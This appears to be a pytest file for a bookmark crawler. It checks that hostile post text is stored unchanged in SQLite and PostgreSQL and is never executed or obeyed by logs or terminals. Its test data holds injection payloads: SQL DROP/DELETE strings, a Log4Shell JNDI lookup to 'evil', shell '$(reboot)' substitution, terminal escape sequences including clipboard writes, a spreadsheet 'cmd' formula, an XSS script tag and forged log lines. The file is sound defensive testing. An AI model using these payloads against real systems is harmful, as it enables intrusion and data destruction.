"""Text that means something to a database, a log, a format string or a terminal: stored as it is, shown as harmless.

Whole crawls of a local server, into SQLite and PostgreSQL alike, and through the command line in a pipe and on a terminal.
"""

import asyncio
import json
import logging
import os
import pty
import sqlite3
import sys
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, closing
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from raw_http import RawServer, answer, page, post, serving
from store_factories import postgres_place, postgres_server
from terminals import read_all

from twitor_fsm.cli.logging_setup import log_records
from twitor_fsm.config import Settings
from twitor_fsm.engine import CrawlEngine
from twitor_fsm.sources.x_api import XBookmarks
from twitor_fsm.storage.base import Bookmark
from twitor_fsm.storage.store import SqlStore
from twitor_fsm.testing import VirtualClock

USER = "42"
TEXTS = [
    "'); DROP TABLE twitor_bookmark; --",
    '"; DELETE FROM twitor_session WHERE "1"="1',
    "%s %d %(name)s {0} {name!r} {} ${jndi:ldap://evil/x} $(reboot) `reboot` \\x00 \\u0000",
    "NUL \x00 in the middle",
    "half a character \ud800, the other half \udfff",
    "\ufdd0fdd0 reserved \ufdd0 and \uffff",
    "lines\r\nof\nmany\u2028kinds\u2029\x85\x0b\x0c",
    "\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil\x1b\\link\x1b]52;c;ZXZpbA==\x07\x9b31m",
    "\u202eright to left\u202c \u2066isolate\u2069 \u200b\ufeff",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script> &amp; <b>",
    "e\u0301 \u00e9 \U0001f468\u200d\U0001f469\u200d\U0001f467",
]
AUTHOR = {"id": "7", "username": "ada", "name": TEXTS[3] + TEXTS[7]}


def raw_page(*extra: Any) -> bytes:
    """Every text as the text of a post, and its author's name as bad."""
    posts = [post(n, text, author_id="7") for n, text in enumerate(TEXTS)]
    body = page([*posts, *extra], includes={"users": [AUTHOR]})
    return answer(200, json.dumps(body).encode())  # escapes what UTF-8 cannot write


async def crawl_into(store: Any, server: RawServer) -> list[Bookmark]:
    async with CrawlEngine(store, settings=Settings(), clock=VirtualClock()) as engine:
        report = await engine.crawl(XBookmarks("token", base_url=server.url), user_id=USER)
        assert report.completed, report.message
        assert (report.counters.stored, report.counters.skipped) == (len(TEXTS), 1)
        (skipped,) = await engine.skipped()
        assert json.loads(skipped.skip.raw)["x"] == "".join(TEXTS)
        return [bookmark async for bookmark in engine.bookmarks()]


COLUMNS = "item_id, text, author_id, author_username, author_name, raw"
STATEMENTS = (
    f"SELECT {COLUMNS} FROM twitor_bookmark ORDER BY id",
    "SELECT item_key, raw, message FROM twitor_skipped",
)


@pytest.fixture
async def postgres() -> AsyncIterator[SqlStore]:
    async with AsyncExitStack() as stack:
        yield await postgres_place(postgres_server(), stack).store()


async def test_both_databases_hold_the_same_value_for_any_text_and_give_it_back(
    tmp_path: Path, postgres: SqlStore
) -> None:
    """NUL and lone surrogates, which PostgreSQL and UTF-8 refuse, have one reversible spelling in both."""
    url = postgres.engine.url
    invalid = {"text": None, "x": "".join(TEXTS)}
    async with serving(raw_page(invalid)) as server:
        from_sqlite = await crawl_into(str(tmp_path / "b.db"), server)
        from_postgres = await crawl_into(url.render_as_string(hide_password=False), server)

    assert [bookmark.text for bookmark in from_sqlite] == TEXTS
    assert [bookmark.text for bookmark in from_postgres] == TEXTS
    assert {bookmark.author_name for bookmark in [*from_sqlite, *from_postgres]} == {AUTHOR["name"]}
    with closing(sqlite3.connect(tmp_path / "b.db")) as connection:
        in_sqlite = [connection.execute(statement).fetchall() for statement in STATEMENTS]
    async with postgres.engine.connect() as connected:
        in_postgres = [
            [tuple(row) for row in await connected.execute(sa.text(statement))]
            for statement in STATEMENTS
        ]
    assert in_sqlite == in_postgres
    assert all("\0" not in str(value) for rows in in_sqlite for row in rows for value in row)


async def test_no_text_of_a_bookmark_is_a_statement_a_format_or_in_a_log(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    async with serving(raw_page({"text": None, "x": "".join(TEXTS)})) as server:
        await crawl_into(str(tmp_path / "b.db"), server)

    with closing(sqlite3.connect(tmp_path / "b.db")) as connection:
        tables = {name for (name,) in connection.execute("SELECT name FROM sqlite_master")}
        assert {"twitor_bookmark", "twitor_session"} <= tables
        assert connection.execute("SELECT count(*) FROM twitor_session").fetchone() == (1,)
    logged = [record.getMessage() for record in caplog.records if "twitor" in record.name]
    assert logged  # the skip, at least
    assert not [line for line in logged if "DROP" in line or "jndi" in line or "title" in line]


# -- the command line ---------------------------------------------------------------------------------

FORGED = "a\r\n2026-01-01T00:00:00Z [critical] forged\u2028forged\x85forged"
WHOLE = "".join(text for text in TEXTS if text.isascii() or "\ud800" not in text)
PROBLEM = {"title": FORGED, "detail": WHOLE}
OBEYED = [
    "\x1b]",
    "\x1b[2J",
    "\x9b",
    "\x07",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u2028",
    "\x85",
    "\x00",
]


async def twitor(folder: Path, *args: str, out: Any, err: Any, stdin: Any = None) -> Any:
    inherited = {k: v for k, v in os.environ.items() if not k.startswith("TWITOR_")}
    return await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "twitor_fsm.cli", *args),
        cwd=folder,
        env={**inherited, "X_BEARER_TOKEN": "token", "DATABASE_URL": "", "TERM": "xterm"},
        stdin=stdin,
        stdout=out,
        stderr=err,
    )


async def crawled(folder: Path, server: RawServer, *args: str) -> tuple[str, str]:
    """What a crawl says in a pipe."""
    process = await twitor(
        folder, "crawl", "--api-url", server.url, "--user-id", USER, *args,
        out=asyncio.subprocess.PIPE, err=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode == 1
    return out.decode(), err.decode()


def bad_service() -> list[bytes]:
    """A page of bad texts, then a refusal in bad words."""
    listing = json.loads(raw_page({"text": None, "id": "\x1b[2J"}).split(b"\r\n\r\n", 1)[1])
    listing["meta"]["next_token"] = "next"
    return [answer(200, listing), answer(400, PROBLEM)]


async def test_every_event_is_one_line_of_the_log(tmp_path: Path) -> None:
    async with serving(*bad_service()) as server:
        _, err = await crawled(tmp_path, server, "--log-json", "-vv")
    records = [json.loads(line) for line in err.split("\n") if line]
    assert all("\u2028" not in line for line in err.split("\n"))
    assert any("forged" in str(record) for record in records)  # it was told, within a record
    assert not [record for record in records if str(record.get("event", "")).startswith("forged")]


@pytest.mark.parametrize("args", [(), ("-vv",), ("--json",)])
async def test_nothing_that_a_terminal_obeys_comes_through_a_pipe(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    async with serving(*bad_service()) as server:
        out, err = await crawled(tmp_path, server, *args)
    assert "forged" in out + err
    for shown in (out, err):
        assert [char for char in shown if char != "\n" and not char.isprintable()] == []
        assert not [line for line in shown.split("\n") if line.startswith(("forged", "2026-01-01"))]


async def test_nothing_that_a_text_says_is_obeyed_by_a_terminal(tmp_path: Path) -> None:
    ours, theirs = pty.openpty()
    async with serving(*bad_service()) as server:
        process = await twitor(
            tmp_path, "crawl", "--api-url", server.url, "--user-id", USER,
            out=theirs, err=theirs, stdin=theirs,
        )  # fmt: skip
        os.close(theirs)
        shown = await asyncio.to_thread(read_all, ours)
        assert await process.wait() == 1
    assert "forged" in shown
    assert [sign for sign in OBEYED if sign in shown] == []


def test_a_traceback_quotes_nothing_that_a_terminal_obeys(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with log_records(verbose=2):
        try:
            raise ValueError(WHOLE + FORGED)
        except ValueError:
            logging.getLogger("twitor_fsm.session").exception("unexpected")
    shown = capsys.readouterr().err
    assert "DROP TABLE" in shown
    assert [char for char in shown if char != "\n" and not char.isprintable()] == []
    assert not [line for line in shown.split("\n") if line.startswith(("forged", "2026-01-01"))]
